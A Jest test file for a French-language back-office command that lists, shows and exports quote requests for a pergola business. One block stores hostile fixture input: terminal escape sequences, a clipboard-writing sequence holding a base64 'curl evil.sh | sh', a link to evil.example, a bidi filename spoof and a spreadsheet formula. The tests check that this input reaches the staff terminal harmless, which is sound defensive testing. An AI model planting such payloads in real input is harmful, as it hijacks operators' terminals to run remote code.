/** @jest-environment node */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { insertLead } from '@/features/quote/leads';
import { samples } from '@/test/server/support';
import { bundledCommand, leadDefaults } from '@/test/server/back-office-command';

/** The quote requests as staff read them (scripts/back-office/leads.ts): the table, one in full, the CSV, a file. */

const command = bundledCommand();
const backOffice = command.run;

describe('npm run back-office', () => {
  it('list shows the leads with their e-mail and spam status', async () => {
    const { code, stdout } = await backOffice(['list']);
    expect(code).toBe(0);
    expect(stdout).toContain('2 demande(s) dont 1 spam');
    expect(stdout).toMatch(new RegExp(`#${command.sampleLeadIds[0]} .*Camille Dupont.*camille@example\\.ch`));
    expect(stdout).toContain('[e-mail en attente, PJ plan.pdf]');
    expect(stdout).toContain('SPAM (honeypot)');
    const json = JSON.parse((await backOffice(['list', '--no-spam', '--json'])).stdout) as { id: number }[];
    expect(json.map((l) => l.id)).toEqual([command.sampleLeadIds[0]]);
  }, 45_000);

  it('show prints every field, the attachment and the e-mail state', async () => {
    const { stdout } = await backOffice(['show', String(command.sampleLeadIds[0])]);
    expect(stdout).toMatch(/Nom\s+Dupont/);
    expect(stdout).toContain('plan.pdf (application/pdf');
    expect(stdout).toContain('Ligne 1\n=SOMME(A1:A2) "citée"');
    expect(stdout).toContain('E-mail à l’entreprise : en attente, 0 tentative(s)');
    const missing = await backOffice(['show', '999']);
    expect(missing.code).toBe(1);
    expect(missing.stderr).toContain('introuvable');
  }, 45_000);

  it('export --csv writes every lead, quoted and protected against formulas', async () => {
    const { stdout } = await backOffice(['export', '--csv']);
    const lines = stdout
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n');
    expect(lines[0]).toBe(
      'id;date;nom;prenom;email;telephone;societe;produit;sujet;message;piece_jointe;spam;a_verifier;email_envoye;' +
        'largeur_m;profondeur_m;surface_m2;pose;code_postal;localite;pays;delai;contact_prefere;moment_contact;' +
        'estimation_min_chf;estimation_max_chf;estimation_materiau;estimation_largeur_m;estimation_profondeur_m;' +
        // The lead's source, appended after the older columns.
        'first_utm_source;first_utm_medium;first_utm_campaign;first_utm_term;first_utm_content;' +
        'last_utm_source;last_utm_medium;last_utm_campaign;last_utm_term;last_utm_content;' +
        'referrer_host;landing_page;form_page;click_id_present;device',
    );
    expect(lines).toHaveLength(3);
    expect(stdout).toContain('"Ligne 1\n=SOMME(A1:A2) ""citée"""');
    // A phone number is not a formula: no visible ' before it.
    expect(stdout).toContain('"+41790000000"'); // E.164
    expect(stdout).not.toContain(`"'+41`);
  }, 45_000);

  it('attachment writes the stored bytes to a file, relative to where the command was run', async () => {
    const { code, stdout } = await backOffice(['attachment', String(command.sampleLeadIds[0]), 'copie.pdf']);
    expect(code).toBe(0);
    expect(stdout).toContain('plan.pdf');
    expect(readFileSync(path.join(command.dataDir, 'copie.pdf')).equals(samples.pdf())).toBe(true);
    expect((await backOffice(['attachment', String(command.sampleLeadIds[0]), 'copie.pdf'])).code).toBe(1); // never overwrites silently
    expect((await backOffice(['attachment', String(command.sampleLeadIds[1]), 'x.pdf'])).stderr).toContain(
      'pas de pièce jointe',
    );
  }, 45_000);
});

describe('what visitors wrote reaches the staff terminal inert', () => {
  const ESC = '\u001b';
  const hostile = {
    nom: `Dupont${ESC}[2J${ESC}[H`,
    prenom: `Camille${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${'\u0007'}`,
    email: 'camille@example.ch',
    telephone: '+41 79 000 00 02',
    sujet: `Devis \u202Egnp.exe\u202C ${ESC}]8;;http://evil.example${ESC}\\lien${ESC}]8;;${ESC}\\`,
    message: `Ligne 1\r\nLigne 2\rEcrasée${'\u009b'}31mrouge\u0085fin\u0007`,
  };
  let id: number;
  /** Nothing a terminal would act on: C0 controls but \n, DEL, C1, bidi overrides. */
  const inert = (text: string) =>
    expect(
      /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/.exec(text),
    ).toBeNull();

  beforeAll(async () => {
    id = await insertLead(command.storage, { ...hostile, isSpam: false, outboxKinds: ['company'] });
  });

  it('list and show print the text without control or escape sequences', async () => {
    const list = await backOffice(['list']);
    inert(list.stdout);
    expect(list.stdout).toContain('Dupont');
    const show = await backOffice(['show', String(id)]);
    inert(show.stdout);
    expect(show.stdout).toContain('Ligne 1\nLigne 2');
    expect(show.stdout).toContain('rouge');
    expect(show.stdout).toContain('gnp.exe');
  }, 45_000);

  it('--json stays valid JSON, every such character escaped, the values as stored', async () => {
    for (const args of [
      ['show', String(id), '--json'],
      ['list', '--json'],
    ]) {
      const { stdout } = await backOffice(args);
      inert(stdout.replace(/\n/g, ''));
      const parsed = JSON.parse(stdout) as typeof hostile | (typeof hostile & { id: number })[];
      const lead = Array.isArray(parsed) ? parsed.find((entry) => entry.id === id) : parsed;
      // Stored as sent, apart from CRLF and CR which the form schema turns into LF on input.
      expect(lead).toMatchObject({ nom: hostile.nom, prenom: hostile.prenom, sujet: hostile.sujet });
    }
  }, 45_000);

  it('the CSV keeps the text as stored', async () => {
    const { stdout } = await backOffice(['export', '--csv']);
    expect(stdout).toContain(hostile.nom);
  }, 45_000);
});

describe('npm run back-office -- show with project details', () => {
  it('prints the product name, the dimensions, the place with its country and the estimate', async () => {
    const id = await insertLead(command.storage, {
      ...leadDefaults,
      nom: 'Projet',
      prenom: 'Léa',
      email: 'lea.projet@example.ch',
      sujet: 'Pergola',
      message: 'Avec détails',
      produit: 'pergolas-bioclimatique',
      project: {
        largeurCm: 400,
        profondeurCm: 300,
        pose: 'autoportante',
        codePostal: '1225',
        localite: 'Chêne-Bourg',
        pays: 'CH',
        delai: 'des-que-possible',
        contactPrefere: 'telephone',
        momentContact: 'matin',
        estimation: { minChf: 11230, maxChf: 21850, materiau: 'bioclimatique', largeurCm: 400, profondeurCm: 300 },
      },
    });
    const { code, stdout } = await backOffice(['show', String(id)]);
    expect(code).toBe(0);
    expect(stdout).toMatch(/Produit\s+Pergola Bioclimatique \(pergolas-bioclimatique\)/);
    expect(stdout).toMatch(/Dimensions\s+4 × 3\sm \(12\sm²\)/);
    expect(stdout).toMatch(/Pose\s+Autoportante/);
    expect(stdout).toMatch(/Lieu\s+1225 Chêne-Bourg, Suisse/);
    expect(stdout).toMatch(/Délai souhaité\s+Dès que possible/);
    expect(stdout).toMatch(/Contact préféré\s+Par téléphone, le matin/);
    expect(stdout).toMatch(
      /Estimation indicative affichée\s+11\s230 – 21\s850\sCHF \(pergola bioclimatique, 4 × 3\sm\)/,
    );
    const json = JSON.parse((await backOffice(['show', String(id), '--json'])).stdout) as { project: { pays: string } };
    expect(json.project.pays).toBe('CH');
  }, 45_000);
});
